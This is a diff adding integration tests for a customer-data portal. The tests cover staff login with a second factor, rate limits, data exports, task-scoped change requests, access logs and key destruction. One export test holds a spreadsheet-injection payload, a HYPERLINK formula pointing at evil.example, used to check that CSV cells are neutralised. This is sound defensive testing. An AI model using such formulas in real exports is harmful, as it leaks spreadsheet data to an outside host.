@@ -1,6 +1,6 @@
 import type { LightMyRequestResponse } from 'fastify';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
-import { verifySignature } from '../../platform/crypto/index.js';
+import { openField, totpCode, verifySignature } from '../../platform/crypto/index.js';
 import { readTextOutbox } from '../../platform/sms.js';
 import { startTestSmtpServer, type TestSmtpServer } from '../../testing/smtp.js';
 import {
@@ -49,6 +49,82 @@ function hits(body: string | Buffer, canaries: Partial<Canaries>): string[] {
   const buf = typeof body === 'string' ? Buffer.from(body) : body;
   return Object.values(canaries).filter((c) => countCanary(buf, c) > 0);
 }
+
+/** A Spanish mobile number unique to the test run: its notation as typed, and as stored. */
+function newPhone(): { typed: string; e164: string } {
+  seq += 1;
+  const digits = String((seq * 7_919_333 + Math.floor(Math.random() * 1_000_000)) % 100_000_000);
+  const national = `6${digits.padStart(8, '0')}`;
+  return {
+    typed: `+34 ${national.slice(0, 3)} ${national.slice(3, 6)} ${national.slice(6)}`,
+    e164: `+34${national}`,
+  };
+}
+
+/** RFC 4180 cells of a CSV text with CRLF line ends. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i += 1) {
+    const ch = text.charAt(i);
+    if (quoted) {
+      if (ch === '"' && text.charAt(i + 1) === '"') {
+        cell += '"';
+        i += 1;
+      } else if (ch === '"') {
+        quoted = false;
+      } else {
+        cell += ch;
+      }
+    } else if (ch === '"') {
+      quoted = true;
+    } else if (ch === ',') {
+      row.push(cell);
+      cell = '';
+    } else if (ch === '\r' && text.charAt(i + 1) === '\n') {
+      row.push(cell);
+      rows.push(row);
+      row = [];
+      cell = '';
+      i += 1;
+    } else {
+      cell += ch;
+    }
+  }
+  if (cell !== '' || row.length > 0) {
+    row.push(cell);
+    rows.push(row);
+  }
+  return rows;
+}
+
+interface StaffMember {
+  readonly id: string;
+  readonly displayName: string;
+  readonly cookie: string;
+  readonly csrf: string;
+}
+
+interface AccessLogItem {
+  action: string;
+  actor: { type: string; role: string | null; displayName: string | null };
+  purpose: string | null;
+  taskId: string | null;
+  categories: string[];
+  breakGlass: boolean;
+  masked: boolean;
+}
+
+interface ChangeRequestItem {
+  id: string;
+  status: string;
+  reason: string | null;
+  decidedAt: string | null;
+}
+
+const LOYALTY = 'loyalty_program';
 
 forEachDialect((dialect) => {
   describe(`customer portal on ${dialect}`, () => {
@@ -153,6 +229,87 @@ forEachDialect((dialect) => {
       expect(ok.statusCode, ok.body).toBe(200);
     }
 
+    /** A staff request with a cookie session; writes carry its CSRF token. */
+    function asStaff(member: StaffMember, method: 'GET' | 'POST', url: string, payload?: object) {
+      const headers: Record<string, string> = { cookie: member.cookie };
+      if (method !== 'GET') headers['x-csrf-token'] = member.csrf;
+      return rt.app.inject({ method, url, headers, ...(payload === undefined ? {} : { payload }) });
+    }
+
+    /** Invited by the privacy officer, accepted, signed in and past the second factor. */
+    async function staffMember(
+      role: 'agent' | 'privacy_officer',
+      displayName = `Staff ${unique('Name')}`,
+    ): Promise<StaffMember> {
+      const email = `${unique('staff.')}@example.net`;
+      const password = `correct horse battery ${unique('')}`;
+      const invited = await rt.app.inject({
+        method: 'POST',
+        url: '/api/v1/staff',
+        headers: authHeader(officer),
+        payload: { email, displayName, role },
+      });
+      expect(invited.statusCode, invited.body).toBe(201);
+      const { id, invitationToken } = invited.json<{ id: string; invitationToken: string }>();
+      const accepted = await rt.app.inject({
+        method: 'POST',
+        url: '/api/v1/auth/invitations/accept',
+        payload: { token: invitationToken, password },
+      });
+      expect(accepted.statusCode, accepted.body).toBe(200);
+      const login = await rt.app.inject({
+        method: 'POST',
+        url: '/api/v1/auth/login',
+        payload: { email, password },
+      });
+      expect(login.statusCode, login.body).toBe(200);
+      const header = login.headers['set-cookie'];
+      const value = (Array.isArray(header) ? header[0] : header) ?? '';
+      const token = /^custodia_session=([^;]*)/.exec(value)?.[1];
+      if (token === undefined) throw new Error('no session cookie');
+      const member: StaffMember = {
+        id,
+        displayName,
+        cookie: `custodia_session=${token}`,
+        csrf: login.json<{ csrfToken: string }>().csrfToken,
+      };
+      const enrol = await asStaff(member, 'POST', '/api/v1/auth/mfa/enroll');
+      expect(enrol.statusCode, enrol.body).toBe(200);
+      const verify = await asStaff(member, 'POST', '/api/v1/auth/mfa/verify', {
+        code: totpCode(enrol.json<{ secret: string }>().secret, clock.now()),
+      });
+      expect(verify.statusCode, verify.body).toBe(200);
+      return member;
+    }
+
+    async function openTask(member: StaffMember, customerId: string): Promise<string> {
+      const res = await asStaff(member, 'POST', '/api/v1/tasks', {
+        customerId,
+        purpose: LOYALTY,
+        title: 'Check a change the customer asked for',
+        assigneeId: member.id,
+        dueAt: new Date(clock.now().getTime() + 24 * 60 * 60_000).toISOString(),
+      });
+      expect(res.statusCode, res.body).toBe(201);
+      return res.json<{ id: string }>().id;
+    }
+
+    /** The newest text message to a number in the outbox, waited for. */
+    async function textTo(e164: string): Promise<{ to: string; text: string }> {
+      for (let i = 0; i < 100; i += 1) {
+        const sms = (await readTextOutbox(rt.dataDir)).filter((m) => m.to === e164).at(-1);
+        if (sms !== undefined) return sms;
+        await new Promise((r) => setTimeout(r, 50));
+      }
+      throw new Error('no text message to the number');
+    }
+
+    async function changeRequests(portal: Portal): Promise<ChangeRequestItem[]> {
+      const res = await get('/api/v1/portal/me/change-requests', portal);
+      expect(res.statusCode, res.body).toBe(200);
+      return res.json<{ items: ChangeRequestItem[] }>().items;
+    }
+
     describe('identity verification', () => {
       it('sends a six-digit code by SMTP and opens a session with it; a customer who cannot read the code sees nothing', async () => {
         const { canaries } = await newCustomer();
@@ -231,6 +388,62 @@ forEachDialect((dialect) => {
         expect(hits(fourth.body, canaries)).toEqual([]);
         clock.advance(16 * 60_000);
         await askCode(canaries.email);
+      });
+
+      it('limits codes per client address across different email addresses (10 in 15 minutes)', async () => {
+        const { id, canaries } = await newCustomer();
+        // Ten codes from one client address, each for another email, are all sent.
+        for (let i = 0; i < 10; i += 1) await askCode(`${unique('source')}@example.org`);
+        smtp.clear();
+        // The eleventh from the same client address is refused, even for a customer's address
+        // that asked for nothing yet, and no mail goes out.
+        const eleventh = await post('/api/v1/portal/login', { email: canaries.email });
+        expect(eleventh.statusCode).toBe(429);
+        expect(errorCode(eleventh)).toBe('rate_limited');
+        expect(hits(eleventh.body, canaries)).toEqual([]);
+        const refused = await rt.inspect.data
+          .selectFrom('audit_entry')
+          .select(['outcome', 'reason'])
+          .where('customer_id', '=', id)
+          .where('action', '=', 'portal.code.login')
+          .execute();
+        expect(refused).toEqual([{ outcome: 'denied', reason: 'source_throttled' }]);
+        await new Promise((r) => setTimeout(r, 200));
+        expect(smtp.messages.filter((m) => m.to.includes(canaries.email))).toEqual([]);
+        // Another client address is not held back by this one's count.
+        const elsewhere = await rt.app.inject({
+          method: 'POST',
+          url: '/api/v1/portal/login',
+          remoteAddress: '192.0.2.77',
+          payload: { email: canaries.email },
+        });
+        expect(elsewhere.statusCode, elsewhere.body).toBe(202);
+        await mailTo(canaries.email);
+        // The window passes and the first client address may ask again.
+        clock.advance(16 * 60_000);
+        await askCode(`${unique('source')}@example.org`);
+      });
+
+      it('accepts a code at 9:59 and refuses one at exactly 10:00', async () => {
+        const { canaries } = await newCustomer();
+        await askCode(canaries.email);
+        const first = codeIn((await mailTo(canaries.email)).text);
+        clock.advance(10 * 60_000 - 1_000);
+        const justInTime = await post('/api/v1/portal/login/verify', {
+          email: canaries.email,
+          code: first,
+        });
+        expect(justInTime.statusCode, justInTime.body).toBe(200);
+
+        await askCode(canaries.email);
+        const second = codeIn((await mailTo(canaries.email)).text);
+        clock.advance(10 * 60_000);
+        const atTen = await post('/api/v1/portal/login/verify', {
+          email: canaries.email,
+          code: second,
+        });
+        expect(atTen.statusCode).toBe(401);
+        expect(errorCode(atTen)).toBe('code_expired');
       });
 
       it('ends a session left idle for 15 minutes, and at logout', async () => {
@@ -329,6 +542,181 @@ forEachDialect((dialect) => {
         // The customer's session opens no staff route.
         const staff = await get(`/api/v1/customers/${theirs.id}?purpose=loyalty_program`, portal);
         expect(staff.statusCode).toBe(401);
+      });
+    });
+
+    describe('exports', () => {
+      /** Distinct values in every field a customer can hold (channels are a closed list). */
+      function everyField() {
+        const tag = unique('');
+        const phone = newPhone();
+        return {
+          canaries: {
+            givenName: `Everygiven${tag}`,
+            familyName: `Everyfamily${tag}`,
+            email: `every.canary.${tag}@example.org`,
+            phone: phone.e164,
+            line1: `${tag} Canary Street 5`,
+            line2: `Flat ${tag}B`,
+            locality: `Localitycanary${tag}`,
+            region: `Regioncanary${tag}`,
+            postalCode: `PC${tag}`,
+            interestA: `interestA${tag}`,
+            interestB: `interestB${tag}`,
+          },
+          phoneTyped: phone.typed,
+        };
+      }
+      type EveryField = ReturnType<typeof everyField>;
+
+      async function newFullCustomer(
+        { canaries, phoneTyped }: EveryField,
+        birthDate: string,
+        country: string,
+        channels: string[],
+      ) {
+        const res = await rt.app.inject({
+          method: 'POST',
+          url: '/api/v1/customers',
+          headers: authHeader(agent),
+          payload: {
+            consents: [
+              { purpose: 'loyalty_program', noticeVersion: '1', method: 'web_form' },
+              { purpose: 'personalized_offers', noticeVersion: '1', method: 'web_form' },
+            ],
+            identity: {
+              givenName: canaries.givenName,
+              familyName: canaries.familyName,
+              birthDate,
+            },
+            contact: {
+              email: canaries.email,
+              phone: phoneTyped,
+              postalAddress: {
+                lines: [canaries.line1, canaries.line2],
+                locality: canaries.locality,
+                region: canaries.region,
+                postalCode: canaries.postalCode,
+                country,
+              },
+            },
+            preferences: { interests: [canaries.interestA, canaries.interestB], channels },
+          },
+        });
+        expect(res.statusCode, res.body).toBe(201);
+        return res.json<{ id: string }>().id;
+      }
+
+      it('exports every field of one’s own, in JSON and in CSV, and nothing of another customer’s', async () => {
+        const mine = everyField();
+        const theirs = everyField();
+        const id = await newFullCustomer(mine, '1971-03-14', 'ES', ['sms', 'post']);
+        await newFullCustomer(theirs, '1968-11-23', 'PT', ['email']);
+        const mineAll = { ...mine.canaries, birthDate: '1971-03-14' };
+        const theirsAll = { ...theirs.canaries, birthDate: '1968-11-23' };
+        const portal = await signIn(mine.canaries.email);
+
+        const json = await get('/api/v1/portal/me/export?format=json', portal);
+        expect(json.statusCode, json.body).toBe(200);
+        expect(hits(json.body, mineAll).sort()).toEqual(Object.values(mineAll).sort());
+        expect(hits(json.body, theirsAll)).toEqual([]);
+        const exported = json.json<{
+          id: string;
+          data: Record<string, Record<string, unknown>>;
+        }>();
+        expect(exported.id).toBe(id);
+        expect(exported.data).toEqual({
+          identity: {
+            givenName: mine.canaries.givenName,
+            familyName: mine.canaries.familyName,
+            birthDate: '1971-03-14',
+          },
+          contact: {
+            email: mine.canaries.email,
+            phone: mine.canaries.phone,
+            postalAddress: {
+              lines: [mine.canaries.line1, mine.canaries.line2],
+              locality: mine.canaries.locality,
+              region: mine.canaries.region,
+              postalCode: mine.canaries.postalCode,
+              country: 'ES',
+            },
+          },
+          preferences: {
+            interests: [mine.canaries.interestA, mine.canaries.interestB],
+            channels: ['sms', 'post'],
+          },
+        });
+
+        const csv = await get('/api/v1/portal/me/export?format=csv', portal);
+        expect(csv.statusCode, csv.body).toBe(200);
+        expect(hits(csv.body, mineAll).sort()).toEqual(Object.values(mineAll).sort());
+        expect(hits(csv.body, theirsAll)).toEqual([]);
+        const rows = parseCsv(csv.body);
+        // One row per field, each in its category.
+        expect(
+          rows
+            .slice(1)
+            .map((r) => `${r[0] ?? ''}.${r[1] ?? ''}`)
+            .sort(),
+        ).toEqual([
+          'contact.email',
+          'contact.phone',
+          'contact.postalAddress',
+          'identity.birthDate',
+          'identity.familyName',
+          'identity.givenName',
+          'preferences.channels',
+          'preferences.interests',
+        ]);
+        const cell = (field: string) => rows.find((r) => r[1] === field)?.[2];
+        expect(cell('channels')).toBe('sms; post');
+        expect(cell('birthDate')).toBe('1971-03-14');
+        expect(cell('country')).toBeUndefined();
+        expect(cell('postalAddress')).toContain('"country":"ES"');
+      });
+
+      it('quotes CSV cells a spreadsheet would run as formulas, and keeps the JSON values as they are', async () => {
+        const tag = unique('');
+        const givenName = `=HYPERLINK("https://evil.example/?q="&A1,"Open${tag}")`;
+        const familyName = `@SUM(A1:A9)${tag}`;
+        const interest = `-2+3${tag}`;
+        const phone = newPhone();
+        const email = `formula.${tag}@example.org`;
+        const res = await rt.app.inject({
+          method: 'POST',
+          url: '/api/v1/customers',
+          headers: authHeader(agent),
+          payload: {
+            consents: [
+              { purpose: 'loyalty_program', noticeVersion: '1', method: 'web_form' },
+              { purpose: 'personalized_offers', noticeVersion: '1', method: 'web_form' },
+            ],
+            identity: { givenName, familyName },
+            contact: { email, phone: phone.typed },
+            preferences: { interests: [interest, `plain${tag}`] },
+          },
+        });
+        expect(res.statusCode, res.body).toBe(201);
+        const portal = await signIn(email);
+        const csv = await get('/api/v1/portal/me/export?format=csv', portal);
+        expect(csv.statusCode, csv.body).toBe(200);
+        const rows = parseCsv(csv.body);
+        const cell = (field: string) => rows.find((r) => r[1] === field)?.[2];
+        // Each cell that would start with = @ - + starts with an apostrophe instead.
+        expect(cell('givenName')).toBe(`'${givenName}`);
+        expect(cell('familyName')).toBe(`'${familyName}`);
+        expect(cell('interests')).toBe(`'${interest}; plain${tag}`);
+        expect(cell('phone')).toBe(`'${phone.e164}`);
+        expect(cell('email')).toBe(email);
+        for (const row of rows) for (const c of row) expect(c).not.toMatch(/^[=+\-@]/);
+        // The quotes and the comma inside the name are escaped, not cell breaks.
+        expect(rows.every((r) => r.length === 6)).toBe(true);
+        const json = await get('/api/v1/portal/me/export?format=json', portal);
+        expect(
+          json.json<{ data: { identity: { givenName: string; familyName: string } } }>().data
+            .identity,
+        ).toEqual({ givenName, familyName });
       });
     });
 
@@ -462,6 +850,163 @@ forEachDialect((dialect) => {
           me.json<{ contactPoints: { phone: { value: string } } }>().contactPoints.phone.value,
         ).toBe('+34612345678');
       });
+
+      it('lets an agent decide only under an open task of theirs for the customer, and shows a rejection with its reason', async () => {
+        const { id, canaries } = await newCustomer();
+        const other = await newCustomer();
+        const portal = await signIn(canaries.email);
+        const alice = await staffMember('agent');
+        const bob = await staffMember('agent');
+        const task = await openTask(alice, id);
+        const otherTask = await openTask(alice, other.id);
+        const bobsTask = await openTask(bob, id);
+        const ask = async (changes: object) => {
+          const res = await post('/api/v1/portal/me/change-requests', { changes }, portal);
+          expect(res.statusCode, res.body).toBe(201);
+          return res.json<{ id: string }>().id;
+        };
+        const decide = (member: StaffMember, requestId: string, body: object) =>
+          asStaff(member, 'POST', `/api/v1/change-requests/${requestId}/decide`, body);
+
+        const birth = await ask({ birthDate: '1979-12-31' });
+        const approve = { decision: 'approve', reason: 'Saw the ID card' };
+        for (const grant of [
+          {},
+          { taskId: task },
+          { taskId: task, purpose: 'personalized_offers' },
+          { taskId: otherTask, purpose: LOYALTY },
+          { taskId: bobsTask, purpose: LOYALTY },
+          { taskId: crypto.randomUUID(), purpose: LOYALTY },
+        ]) {
+          const res = await decide(alice, birth, { ...approve, ...grant });
+          expect(res.statusCode, JSON.stringify(grant)).toBe(404);
+          expect(errorCode(res)).toBe('not_found');
+        }
+        expect((await changeRequests(portal)).find((r) => r.id === birth)).toMatchObject({
+          status: 'pending',
+          reason: null,
+          decidedAt: null,
+        });
+
+        const approved = await decide(alice, birth, { ...approve, taskId: task, purpose: LOYALTY });
+        expect(approved.statusCode, approved.body).toBe(200);
+        expect(approved.json()).toMatchObject({ id: birth, status: 'approved' });
+        expect((await changeRequests(portal)).find((r) => r.id === birth)).toEqual(
+          expect.objectContaining({
+            status: 'approved',
+            reason: 'Saw the ID card',
+            decidedAt: clock.now().toISOString(),
+          }),
+        );
+        const me = await get('/api/v1/portal/me', portal);
+        expect(
+          me.json<{ data: { identity: { birthDate?: string } } }>().data.identity.birthDate,
+        ).toBe('1979-12-31');
+        const audit = await rt.inspect.data
+          .selectFrom('audit_entry')
+          .select(['actor_type', 'actor_id', 'outcome', 'reason'])
+          .where('customer_id', '=', id)
+          .where('action', '=', 'change_request.decide')
+          .where('outcome', '=', 'done')
+          .execute();
+        expect(audit).toEqual([
+          { actor_type: 'staff', actor_id: alice.id, outcome: 'done', reason: 'approve' },
+        ]);
+
+        // A rejection: nothing changes, and the customer reads why.
+        const address = await ask({
+          postalAddress: {
+            lines: ['1 Rejected Road'],
+            locality: 'Madrid',
+            postalCode: '28001',
+            country: 'ES',
+          },
+        });
+        const reason = `No proof of address was sent ${unique('Reasoncanary')}`;
+        const rejected = await decide(alice, address, {
+          decision: 'reject',
+          reason,
+          taskId: task,
+          purpose: LOYALTY,
+        });
+        expect(rejected.statusCode, rejected.body).toBe(200);
+        expect(rejected.json()).toMatchObject({ id: address, status: 'rejected', reason });
+        const mine = await changeRequests(portal);
+        expect(mine.find((r) => r.id === address)).toEqual(
+          expect.objectContaining({
+            status: 'rejected',
+            reason,
+            decidedAt: clock.now().toISOString(),
+          }),
+        );
+        expect(mine.find((r) => r.id === birth)?.status).toBe('approved');
+        const after = await get('/api/v1/portal/me', portal);
+        expect(
+          after.json<{ data: { contact: { postalAddress?: object } } }>().data.contact
+            .postalAddress,
+        ).toBeUndefined();
+        // The reason is sealed: it is in no store as plaintext.
+        expect(countCanary(await rt.storeBytes(), reason)).toBe(0);
+
+        // Once the task is closed, it grants no decision any more.
+        const closed = await asStaff(alice, 'POST', `/api/v1/tasks/${task}/close`);
+        expect(closed.statusCode, closed.body).toBe(200);
+        const late = await ask({ birthDate: '1979-12-30' });
+        const afterClose = await decide(alice, late, {
+          ...approve,
+          taskId: task,
+          purpose: LOYALTY,
+        });
+        expect(afterClose.statusCode).toBe(404);
+        expect((await changeRequests(portal)).find((r) => r.id === late)?.status).toBe('pending');
+      });
+
+      it('marks a phone changed with a code as verified, and one changed by staff without a code as not', async () => {
+        const { id, canaries } = await newCustomer();
+        const portal = await signIn(canaries.email);
+        const phone = newPhone();
+        const asked = await post(
+          '/api/v1/portal/me/contact',
+          { field: 'phone', value: phone.typed },
+          portal,
+        );
+        expect(asked.statusCode, asked.body).toBe(202);
+        const waiting = await get('/api/v1/portal/me', portal);
+        expect(
+          waiting.json<{ contactPoints: { phone?: object } }>().contactPoints.phone,
+        ).toBeUndefined();
+        const sms = await textTo(phone.e164);
+        clock.advance(60_000);
+        const done = await post(
+          '/api/v1/portal/me/contact/verify',
+          { code: codeIn(sms.text) },
+          portal,
+        );
+        expect(done.statusCode, done.body).toBe(200);
+        const verifiedAt = clock.now().toISOString();
+        expect(done.json()).toEqual({ field: 'phone', verifiedAt });
+        const me = await get('/api/v1/portal/me', portal);
+        const points = me.json<{
+          contactPoints: { phone?: { value: string; verifiedAt: string | null } };
+        }>().contactPoints;
+        expect(points.phone).toEqual({ value: phone.e164, verifiedAt });
+        expect(points.phone?.verifiedAt).not.toBeNull();
+
+        // Staff change the number without a code: it is shown, but not as verified.
+        const other = newPhone();
+        const changed = await rt.app.inject({
+          method: 'PATCH',
+          url: `/api/v1/customers/${id}`,
+          headers: authHeader(agent),
+          payload: { contact: { phone: other.typed } },
+        });
+        expect(changed.statusCode, changed.body).toBe(200);
+        const later = await get('/api/v1/portal/me', portal);
+        expect(later.json<{ contactPoints: { phone?: object } }>().contactPoints.phone).toEqual({
+          value: other.e164,
+          verifiedAt: null,
+        });
+      });
     });
 
     describe('consents and access', () => {
@@ -533,6 +1078,81 @@ forEachDialect((dialect) => {
         // The customer's own reads are not "accesses by others".
         expect(items.some((e) => e.actor.type === 'customer')).toBe(false);
       });
+
+      it('names the staff member, role, purpose and task of a read, and marks break-glass and masked views', async () => {
+        const { id, canaries } = await newCustomer();
+        const alice = await staffMember('agent', `Alice ${unique('Shown')}`);
+        const bob = await staffMember('agent', `Bob ${unique('Shown')}`);
+        const carol = await staffMember('agent', `Carol ${unique('Shown')}`);
+        const task = await openTask(alice, id);
+        const read = (member: StaffMember, grant: Record<string, string>) =>
+          asStaff(
+            member,
+            'GET',
+            `/api/v1/customers/${id}?${new URLSearchParams({ purpose: LOYALTY, ...grant }).toString()}`,
+          );
+        const underTask = await read(alice, { taskId: task });
+        expect(underTask.statusCode, underTask.body).toBe(200);
+        expect(underTask.json<{ access?: string }>().access).toBe('granted');
+
+        const portal = await signIn(canaries.email);
+        const accesses = async () => {
+          const res = await get('/api/v1/portal/access-log', portal);
+          expect(res.statusCode, res.body).toBe(200);
+          return res
+            .json<{ items: AccessLogItem[] }>()
+            .items.filter((e) => e.action === 'customer.read' && e.actor.type === 'staff');
+        };
+        expect(await accesses()).toEqual([
+          expect.objectContaining({
+            actor: { type: 'staff', role: 'agent', displayName: alice.displayName },
+            purpose: LOYALTY,
+            taskId: task,
+            categories: ['contact', 'identity'],
+            breakGlass: false,
+            masked: false,
+          }),
+        ]);
+
+        const glass = await asStaff(bob, 'POST', '/api/v1/break-glass', {
+          customerId: id,
+          purpose: LOYALTY,
+          justification: 'Customer at the till, card blocked, no task open yet',
+        });
+        expect(glass.statusCode, glass.body).toBe(201);
+        const underGlass = await read(bob, { breakGlassId: glass.json<{ id: string }>().id });
+        expect(underGlass.statusCode, underGlass.body).toBe(200);
+        expect(underGlass.json<{ access?: string }>().access).toBe('granted');
+        // Without any grant, a staff member sees masked values only; that is shown too.
+        const maskedRead = await read(carol, {});
+        expect(maskedRead.statusCode, maskedRead.body).toBe(200);
+        expect(maskedRead.json<{ access?: string }>().access).toBe('masked');
+
+        const items = await accesses();
+        expect(items).toHaveLength(3);
+        expect(items.find((e) => e.actor.displayName === bob.displayName)).toEqual(
+          expect.objectContaining({
+            actor: { type: 'staff', role: 'agent', displayName: bob.displayName },
+            purpose: LOYALTY,
+            taskId: null,
+            categories: ['contact', 'identity'],
+            breakGlass: true,
+            masked: false,
+          }),
+        );
+        expect(items.find((e) => e.actor.displayName === carol.displayName)).toEqual(
+          expect.objectContaining({
+            actor: { type: 'staff', role: 'agent', displayName: carol.displayName },
+            purpose: LOYALTY,
+            taskId: null,
+            breakGlass: false,
+            masked: true,
+          }),
+        );
+        expect(items.find((e) => e.actor.displayName === alice.displayName)?.breakGlass).toBe(
+          false,
+        );
+      });
     });
 
     describe('leaving the programme', () => {
@@ -566,6 +1186,146 @@ forEachDialect((dialect) => {
         expect(smtp.messages.filter((m) => m.to.includes(canaries.email))).toEqual([]);
         expect(hits(await rt.storeBytes(), canaries)).toEqual([]);
         expect(hits(rt.logs.text(), canaries)).toEqual([]);
+      });
+
+      it('destroys the data keys: ciphertext copied before the withdrawal opens with no key left after it', async () => {
+        const { id, canaries } = await newCustomer();
+        const portal = await signIn(canaries.email);
+        // Values sealed under the customer's other keys: a change request and a waiting phone.
+        const note = `Please fix ${unique('Notecanary')}`;
+        const asked = await post(
+          '/api/v1/portal/me/change-requests',
+          { changes: { birthDate: '1975-05-05' }, note },
+          portal,
+        );
+        expect(asked.statusCode, asked.body).toBe(201);
+        const phone = newPhone();
+        const pending = await post(
+          '/api/v1/portal/me/contact',
+          { field: 'phone', value: phone.typed },
+          portal,
+        );
+        expect(pending.statusCode, pending.body).toBe(202);
+        await reverify(portal, canaries.email);
+
+        // The copy: every encrypted value of the customer's, as a backup would hold it.
+        const fields = await rt.inspect.data
+          .selectFrom('customer_field')
+          .selectAll()
+          .where('customer_id', '=', id)
+          .execute();
+        expect(fields.map((r) => r.field).sort()).toEqual([
+          'email',
+          'familyName',
+          'givenName',
+          'interests',
+        ]);
+        const requests = await rt.inspect.data
+          .selectFrom('change_request')
+          .selectAll()
+          .where('customer_id', '=', id)
+          .execute();
+        const codes = await rt.inspect.data
+          .selectFrom('portal_code')
+          .selectAll()
+          .where('customer_id', '=', id)
+          .where('kind', '=', 'contact_change')
+          .execute();
+        const sealed = [
+          ...fields.map((r) => ({
+            category: r.category,
+            field: r.field,
+            ciphertext: r.ciphertext,
+          })),
+          ...requests.flatMap((r) =>
+            r.note_sealed === null
+              ? []
+              : [{ category: 'requests', field: `note:${r.id}`, ciphertext: r.note_sealed }],
+          ),
+          ...codes.flatMap((r) =>
+            r.value_sealed === null
+              ? []
+              : [{ category: 'portal', field: 'contact:phone', ciphertext: r.value_sealed }],
+          ),
+        ];
+        expect(sealed).toHaveLength(6);
+        const keysBefore = await rt.inspect.keys
+          .selectFrom('data_key')
+          .select(['id', 'category'])
+          .where('customer_id', '=', id)
+          .execute();
+        expect(keysBefore.map((k) => k.category)).toEqual(
+          expect.arrayContaining(['identity', 'contact', 'preferences', 'requests', 'portal']),
+        );
+
+        /** Every value of the copy that some key of the live key store opens. */
+        const openCopy = async (): Promise<string[]> => {
+          const keys = await rt.inspect.keys
+            .selectFrom('data_key')
+            .selectAll()
+            .where('workspace_id', '=', rt.workspaceId)
+            .execute();
+          const opened: string[] = [];
+          for (const item of sealed) {
+            for (const k of keys) {
+              try {
+                const key = rt.ctx.keyProvider.unwrapDataKey(k.wrapped, k.kek_version, {
+                  workspaceId: k.workspace_id,
+                  customerId: k.customer_id,
+                  category: k.category,
+                  keyId: k.id,
+                });
+                opened.push(
+                  openField(key, item.ciphertext, {
+                    workspaceId: rt.workspaceId,
+                    customerId: id,
+                    category: item.category,
+                    field: item.field,
+                    keyId: k.id,
+                  }),
+                );
+              } catch {
+                // Not this key.
+              }
+            }
+          }
+          return opened;
+        };
+        // Before, the live key store opens the copy: the check can tell the difference.
+        const before = await openCopy();
+        expect(before).toHaveLength(6);
+        expect(before).toEqual(
+          expect.arrayContaining([canaries.givenName, canaries.email, note, phone.e164]),
+        );
+
+        const res = await post('/api/v1/portal/withdraw', undefined, portal);
+        expect(res.statusCode, res.body).toBe(200);
+        const receipt = res.json<{ receipt: { destroyedKeyIds: string[] } }>().receipt;
+        expect([...receipt.destroyedKeyIds].sort()).toEqual(keysBefore.map((k) => k.id).sort());
+
+        // The keys and the rows are gone; the copy opens with no key that is left.
+        expect(
+          await rt.inspect.keys
+            .selectFrom('data_key')
+            .select('id')
+            .where('customer_id', '=', id)
+            .execute(),
+        ).toEqual([]);
+        for (const table of [
+          'customer_field',
+          'change_request',
+          'portal_code',
+          'portal_session',
+          'contact_verification',
+        ] as const) {
+          const left = await rt.inspect.data
+            .selectFrom(table)
+            .select('customer_id')
+            .where('customer_id', '=', id)
+            .execute();
+          expect(left, table).toEqual([]);
+        }
+        expect(await openCopy()).toEqual([]);
       });
     });
   });
